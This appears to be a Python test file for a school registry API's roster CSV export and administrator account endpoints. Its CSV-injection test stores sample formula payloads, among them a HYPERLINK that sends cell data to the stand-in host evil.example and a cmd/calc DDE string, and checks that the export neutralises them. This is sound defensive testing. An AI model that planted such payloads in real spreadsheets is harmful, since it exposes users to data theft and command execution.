"""roster_export.py -- issue 14's server side for the staff pages: the
roster as a CSV file (GET /api/school/v1/roster?format=csv) and the list
of accounts an administrator manages (GET /api/school/v1/accounts).

The CSV is checked as Excel would read it: the UTF-8 byte order mark, RFC
4180 quoting, one line per in-school student in the JSON roster's order, a
G student number (which embeds the identity number) masked, and cells that
a spreadsheet would run as formulas neutralised. Students are admitted
through the real chain (tests/api/students.py); the bulk rows of the
streaming test are cloned from one of them with SQL."""
import csv
import io
import random

from staff import signed_in
from students import API, CHAOYANG, HAIDIAN, HAIDIAN_SCHOOL, SCHOOL, admitted
from xjtest import run, test

HEADER = ["学籍号", "姓名", "性别", "出生日期", "入学年份", "学段", "年级", "班级",
          "学籍状态", "学校标识码", "学校名称"]


def export(staff, query=""):
    st, h, body = staff.call("GET", API + "/roster?format=csv" + query)
    return st, h, body


def parse(s, body):
    s.ok(isinstance(body, str) and body.startswith("\ufeff"),
         "UTF-8 byte order mark first: %r" % (body[:8] if isinstance(body, str) else body,))
    rows = list(csv.reader(io.StringIO(body[1:], newline="")))
    s.eq(rows[0], HEADER, "the header line")
    return rows[1:]


def mark(s):
    return int(s.sql("SELECT COALESCE(MAX(id), 0) FROM audit_log")[0][0])


def gno():
    """A G student number: G + an 18-character identity number of Chaoyang."""
    return "G110105%s%03d%d" % ("20190101", random.randrange(1000), random.randrange(10))


@test("issue 14: the roster CSV opens in Excel: BOM, RFC 4180 quoting, CRLF, one line per "
      "in-school student in the JSON roster's order, an attachment named after the school")
def _(s):
    ids = admitted(s, 2)
    s.sql("UPDATE student SET name = '张,\"三' WHERE id = %d" % ids[0])
    clerk = signed_in(s, SCHOOL + ".clerk")
    st, h, body = export(clerk)
    s.eq(st, 200, "export: %r" % (body[:200] if isinstance(body, str) else body,))
    s.eq(h.get("content-type"), "text/csv; charset=utf-8")
    s.eq(h.get("content-disposition"), 'attachment; filename="roster-%s.csv"' % SCHOOL)
    s.eq(h.get("cache-control"), "no-store", "never cached on the way")
    s.ok(body.endswith("\r\n") and "\n" not in body.replace("\r\n", ""),
         "every line ends with CRLF (RFC 4180)")
    rows = parse(s, body)
    # the JSON roster, every page, is the same students in the same order
    want, after = [], ""
    while True:
        st, h, b = clerk.call("GET", API + "/roster?limit=200" + after)
        s.eq(st, 200)
        want += b["items"]
        if not b["next_after"]:
            break
        after = "&after=" + b["next_after"]
    s.eq([r[1] for r in rows], [w["name"] for w in want], "the names, in roster order")
    s.eq(len(rows), len(want))
    row = [r for r in rows if r[1] == '张,"三']
    s.eq(len(row), 1, "a comma and a quote stay inside one cell")
    one = [w for w in want if w["id"] == ids[1]][0]
    r = [r for r in rows if r[0] == one["student_no"]][0]
    s.eq(r[2], "男" if one["sex"] == "M" else "女")
    s.eq((r[3], r[4], r[5], r[8], r[9]),
         (one["birth_date"], str(one["entry_year"]), "小学", "在校", SCHOOL))
    s.eq(r[6], str(one["grade"]) if one["grade"] else "")
    s.ok('"张,""三"' in body, "the quote is doubled inside a quoted cell")


@test("issue 14: a G student number (the identity number) is masked in the CSV; L numbers are shown")
def _(s):
    ids = admitted(s, 2)
    g = gno()
    s.sql("UPDATE student SET student_no = '%s', student_no_kind = 'G' WHERE id = %d" % (g, ids[0]))
    lno = s.sql("SELECT student_no FROM student WHERE id = %d" % ids[1])[0][0]
    st, h, body = export(signed_in(s, SCHOOL + ".reviewer"))
    s.eq(st, 200)
    rows = parse(s, body)
    nos = [r[0] for r in rows]
    s.ok("G110105" + "*" * 12 in nos, "G + area code + 12 stars: %r" % nos[-3:])
    s.ok(g[1:] not in body and g[7:] not in body, "no identity number, whole or its hidden part")
    s.ok(lno in nos, "the temporary L number is shown as it is")


@test("issue 14: CSV injection: cells starting with = + - @ TAB CR get an apostrophe")
def _(s):
    ids = admitted(s, 3, school=HAIDIAN_SCHOOL, county=HAIDIAN)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    for sid, n in zip(ids, names):
        s.sql("UPDATE student SET name = '%s' WHERE id = %d" % (n.replace("'", "''"), sid))
    s.sql("UPDATE org SET name = '-2+3 学校' WHERE kind = 'school' AND code = '%s'" % HAIDIAN_SCHOOL)
    try:
        bureau = signed_in(s, HAIDIAN + ".reviewer")
        st, h, body = export(bureau, "&school=" + HAIDIAN_SCHOOL)
        s.eq(st, 200, "a bureau names a school of its scope: %r" % (body,))
        rows = parse(s, body)
        got = {r[1] for r in rows}
        for n in names:
            s.ok("'" + n in got, "neutralised: %r in %r" % (n, sorted(got)[:5]))
        s.ok(all(r[10] == "'-2+3 学校" for r in rows), "the school name too")
        s.ok(all(not c or c[0] not in "=+-@\t\r" for r in rows for c in r),
             "no cell begins with a formula sign")
    finally:
        s.sql("UPDATE org SET name = '北京市110108第一小学' WHERE kind = 'school' AND code = '%s'"
              % HAIDIAN_SCHOOL)


@test("M6 issue 14: the CSV export is audited once, before the file, with its filter and row count")
def _(s):
    admitted(s, 1)
    clerk = signed_in(s, SCHOOL + ".clerk")
    m = mark(s)
    st, h, body = export(clerk, "&level=1")
    s.eq(st, 200)
    n = len(parse(s, body))
    rows = s.sql("SELECT target_type, target_id, row_count, filter, request_id FROM audit_log"
                 " WHERE id > %d AND action = 'student.roster_export'" % m)
    s.eq(len(rows), 1, "one entry for the whole file")
    s.eq(rows[0][:3], ["org", SCHOOL, str(n)])
    s.eq(rows[0][3], "format=csv school=%s level=1 grade=0 class=" % SCHOOL)
    s.eq(rows[0][4], h.get("x-request-id"), "the request's id")


@test("issue 14: the CSV streams page after page: 450 students, three database pages, all in the file")
def _(s):
    (sid,) = admitted(s, 1, school=HAIDIAN_SCHOOL, county=HAIDIAN)
    base = random.randrange(10 ** 6, 10 ** 7)
    s.sql("INSERT INTO student (registration_id, school_org_id, county_code, student_no,"
          " student_no_kind, name, sex, birth_date, id_doc_type, id_number_ct, child_bidx, ethnicity,"
          " nationality, hukou_nature, hukou_code, birthplace, native_place, current_address,"
          " home_address, contact_address, local_family, left_behind, migrant_worker_child,"
          " entry_year, level, created_at, updated_at)"
          " SELECT 4000000000 + %d * 1000 + q.seq, school_org_id, county_code,"
          " CONCAT('L110108', LPAD(%d * 1000 + q.seq, 12, '0')), 'L', CONCAT('克隆', q.seq), sex,"
          " birth_date, id_doc_type, id_number_ct, child_bidx, ethnicity, nationality, hukou_nature,"
          " hukou_code, birthplace, native_place, current_address, home_address, contact_address,"
          " local_family, left_behind, migrant_worker_child, entry_year, level, created_at, updated_at"
          " FROM student JOIN seq_1_to_450 q WHERE id = %d" % (base, base, sid))
    want = int(s.sql("SELECT COUNT(*) FROM student WHERE school_org_id = (SELECT id FROM org WHERE"
                     " kind = 'school' AND code = '%s') AND status = 'in_school'" % HAIDIAN_SCHOOL)[0][0])
    s.ok(want >= 451, "at least 451 in school: %d" % want)
    st, h, body = export(signed_in(s, HAIDIAN_SCHOOL + ".clerk"))
    s.eq(st, 200)
    rows = parse(s, body)
    s.eq(len(rows), want, "every in-school student, across pages of 200")
    names = [r[1] for r in rows]
    s.eq(len([n for n in names if n.startswith("克隆")]), 450)
    s.eq(len(set(r[0] for r in rows)), len(rows), "no student twice at a page boundary")


@test("issue 14: a database failure after the CSV's headers breaks the download; never a short file "
      "that looks complete")
def _(s):
    import http.client
    admitted(s, 1, school=HAIDIAN_SCHOOL, county=HAIDIAN)
    clerk = signed_in(s, HAIDIAN_SCHOOL + ".clerk")
    # the count (student only) and the audit entry pass; every roster page
    # joins school_class, which the application may no longer read
    schema = s.sql("SELECT table_schema FROM information_schema.tables"
                   " WHERE table_name = 'school_class' AND table_schema <> 'mysql' LIMIT 1")[0][0]
    hosts = [r[0] for r in s.sql("SELECT host FROM mysql.user WHERE user = 'xueji_app'")]
    for host in hosts:
        s.sql("REVOKE SELECT ON `%s`.school_class FROM 'xueji_app'@'%s'" % (schema, host))
    try:
        conn = http.client.HTTPConnection("127.0.0.1", s.stack.port, timeout=30)
        conn.request("GET", API + "/roster?format=csv",
                     headers={"Cookie": "__Host-xj_staff=" + clerk.cookie})
        # broken either way: no answer at all (nginx had not sent the
        # 200 yet), or a 200 whose chunked body never ends
        body, broken = b"", None
        try:
            r = conn.getresponse()
            s.eq(r.status, 200, "the headers left before the failure")
            body = r.read()
        except (http.client.IncompleteRead, ConnectionError) as e:
            body, broken = getattr(e, "partial", b""), e
        conn.close()
        s.ok(broken is not None, "the download ends as broken, not as a complete file of %d bytes: %r"
             % (len(body), body[:80]))
    finally:
        for host in hosts:
            s.sql("GRANT SELECT ON `%s`.school_class TO 'xueji_app'@'%s'" % (schema, host))
    s.ok(any("roster_export_broken" in line for line in open(s.stack.path("log", "xuejid-0.log"),
         errors="replace").readlines() + open(s.stack.path("log", "xuejid-1.log"),
         errors="replace").readlines()), "the worker says why")
    st, h, body = export(clerk)
    s.eq(st, 200)
    s.ok(body.endswith("\r\n") and len(parse(s, body)) >= 1, "with the grant back, the export works")


@test("issue 14: the CSV export's filters and scope: a bad format 400, a school outside the scope 404, "
      "a bureau without a school 400, a class filter")
def _(s):
    clerk = signed_in(s, SCHOOL + ".clerk")
    st, h, b = clerk.call("GET", API + "/roster?format=xlsx")
    e = s.error_body(b, "bad_query", 400, st)
    s.eq(e["field"], "format")
    st, h, b = export(clerk, "&school=" + HAIDIAN_SCHOOL)
    s.error_body(b, "not_found", 404, st)
    st, h, b = export(signed_in(s, CHAOYANG + ".reviewer"))
    e = s.error_body(b, "bad_query", 400, st)
    s.eq(e["field"], "school")
    st, h, b = clerk.call("GET", API + "/roster?format=json&limit=1")
    s.eq((st, type(b)), (200, dict), "format=json is the JSON page")
    # a class of the school: only its students
    (sid,) = admitted(s, 1)
    st, h, c = clerk.call("POST", API + "/classes", {"entry_year": int(s.sql(
        "SELECT entry_year FROM student WHERE id = %d" % sid)[0][0]), "level": 1})
    s.eq(st, 201, "class: %r" % (c,))
    st, h, b = clerk.call("POST", API + "/students/%d/class" % sid, {"class_code": c["code"]})
    s.eq(st, 200, "assign: %r" % (b,))
    st, h, body = export(clerk, "&class=" + c["code"])
    s.eq(st, 200)
    rows = parse(s, body)
    s.eq([r[7] for r in rows], [c["code"]], "the class's one student")


# ---- the accounts an administrator manages ------------------------------

def logins(b):
    return [a["login"] for a in b["items"]]


@test("R-ORG-3 issue 14: an administrator lists the accounts of its org and below, no one else's")
def _(s):
    admin = signed_in(s, CHAOYANG + ".admin")
    st, h, b = admin.call("GET", API + "/accounts?limit=200")
    s.eq(st, 200, "list: %r" % (b,))
    got = logins(b)
    after = b["next_after"]
    while after:
        st, h, b = admin.call("GET", API + "/accounts?limit=200&after=" + after)
        got += logins(b)
        after = b["next_after"]
    s.ok(SCHOOL + ".clerk" in got and CHAOYANG + ".reviewer" in got,
         "the county's and its schools' accounts")
    s.ok(HAIDIAN_SCHOOL + ".clerk" not in got and HAIDIAN + ".reviewer" not in got,
         "another county's are not listed")
    want = int(s.sql("SELECT COUNT(*) FROM staff_account a JOIN org o ON o.id = a.org_id"
                     " WHERE o.path LIKE CONCAT((SELECT path FROM org WHERE kind = 'county'"
                     " AND code = '%s'), '%%')" % CHAOYANG)[0][0])
    s.eq(len(got), want, "every account of the subtree, once")
    st, h, b = admin.call("GET", API + "/accounts?org=" + SCHOOL)
    s.eq(st, 200)
    s.ok(b["items"] and all(a["org"]["code"] == SCHOOL for a in b["items"]), "?org= narrows")
    a = b["items"][0]
    s.eq(sorted(a), sorted(["id", "login", "display_name", "role", "status", "must_change_password",
                            "second_factor_enrolled", "org", "created_at"]),
         "no hash, secret or session in an item")


@test("R-ORG-3 issue 14: the account list: org outside the scope 404, non-admins 403, keyset pages, "
      "a disabled account shown as disabled")
def _(s):
    admin = signed_in(s, CHAOYANG + ".admin")
    st, h, b = admin.call("GET", API + "/accounts?org=" + HAIDIAN)
    s.error_body(b, "not_found", 404, st)
    st, h, b = admin.call("GET", API + "/accounts?org=999999")
    s.error_body(b, "not_found", 404, st)
    st, h, b = admin.call("GET", API + "/accounts?limit=0")
    s.error_body(b, "bad_query", 400, st)
    for like in (CHAOYANG + ".reviewer", SCHOOL + ".reviewer", SCHOOL + ".clerk"):
        st, h, b = signed_in(s, like).call("GET", API + "/accounts")
        s.error_body(b, "forbidden", 403, st)
    st, h, p1 = admin.call("GET", API + "/accounts?limit=2&org=" + SCHOOL)
    s.eq((st, len(p1["items"])), (200, 2))
    s.ok(p1["next_after"], "a full page has a next one")
    st, h, p2 = admin.call("GET", API + "/accounts?limit=2&org=%s&after=%s" % (SCHOOL, p1["next_after"]))
    s.ok(p2["items"] and p2["items"][0]["id"] > p1["items"][-1]["id"], "the next page follows")
    victim = signed_in(s, SCHOOL + ".clerk")
    st, h, b = admin.call("POST", API + "/accounts/%s/disable" % victim.login_name)
    s.eq(st, 200, "disable: %r" % (b,))
    vid = int(s.sql("SELECT id FROM staff_account WHERE login = '%s'" % victim.login_name)[0][0])
    st, h, b = admin.call("GET", API + "/accounts?limit=1&org=%s&after=%d" % (SCHOOL, vid - 1))
    s.eq([(a["login"], a["status"]) for a in b["items"]], [(victim.login_name, "disabled")])



@test("issue 14: a disabled account is enabled again by its administrator: it signs in, audited; "
      "an active one 409, the admin's own 409, outside the scope 404, a reviewer 403")
def _(s):
    admin = signed_in(s, CHAOYANG + ".admin")
    victim = signed_in(s, SCHOOL + ".clerk")
    st, h, b = admin.call("POST", API + "/accounts/%s/enable" % victim.login_name)
    s.error_body(b, "conflict", 409, st)
    st, h, b = admin.call("POST", API + "/accounts/%s/disable" % victim.login_name)
    s.eq(st, 200)
    st, h, b = victim.login()
    s.eq(st, 403, "a disabled account cannot sign in: %r" % (b,))
    m = mark(s)
    st, h, b = admin.call("POST", API + "/accounts/%s/enable" % victim.login_name)
    s.eq((st, b.get("status"), b.get("login")), (200, "active", victim.login_name), "enable: %r" % (b,))
    st, h, b = victim.login()
    s.eq(st, 200, "it signs in again with its password: %r" % (b,))
    rows = s.sql("SELECT target_id FROM audit_log WHERE id > %d AND action = 'staff.enable'" % m)
    s.eq(rows, [[victim.login_name]], "audited")
    st, h, b = admin.call("POST", API + "/accounts/%s/enable" % admin.login_name)
    s.error_body(b, "conflict", 409, st)
    st, h, b = admin.call("POST", API + "/accounts/%s.clerk/enable" % HAIDIAN_SCHOOL)
    s.error_body(b, "not_found", 404, st)
    st, h, b = signed_in(s, CHAOYANG + ".reviewer").call(
        "POST", API + "/accounts/%s/enable" % victim.login_name)
    s.error_body(b, "forbidden", 403, st)


run()
